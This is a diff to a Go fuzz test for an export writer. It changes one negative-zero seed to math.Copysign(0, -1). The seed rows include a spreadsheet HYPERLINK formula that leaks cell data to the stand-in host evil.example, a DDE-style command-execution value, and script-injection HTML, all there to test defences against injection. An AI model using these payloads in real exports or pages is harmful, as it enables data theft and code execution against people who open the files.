@@ -100,7 +100,7 @@ func FuzzWriteExport(f *testing.F) {
 		{"Ada\x00Lovelace", "\x00\x00", math.Inf(1), "Org\x00", "\x00"},
 		{"Ad\xffa", "\xc3\x28\xed\xa0\x80", math.Inf(-1), "\xfe\xff", "\xff"},
 		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", math.NaN(), "=1+1", "@SUM(A1:A9)"},
-		{"-2+3", "@import", -0.0, "+44 20 7946 0000", "-"},
+		{"-2+3", "@import", math.Copysign(0, -1), "+44 20 7946 0000", "-"},
 		{"\tleading tab", "\rleading carriage return", math.MaxFloat64, " ", "\t"},
 		{"<script>alert(1)</script>", "</td></tr></table><img src=x onerror=alert(1)>", math.SmallestNonzeroFloat64, "<b>Org</b>", "<i>note</i>"},
 		{`\.`, "", 1e-300, "", ""},
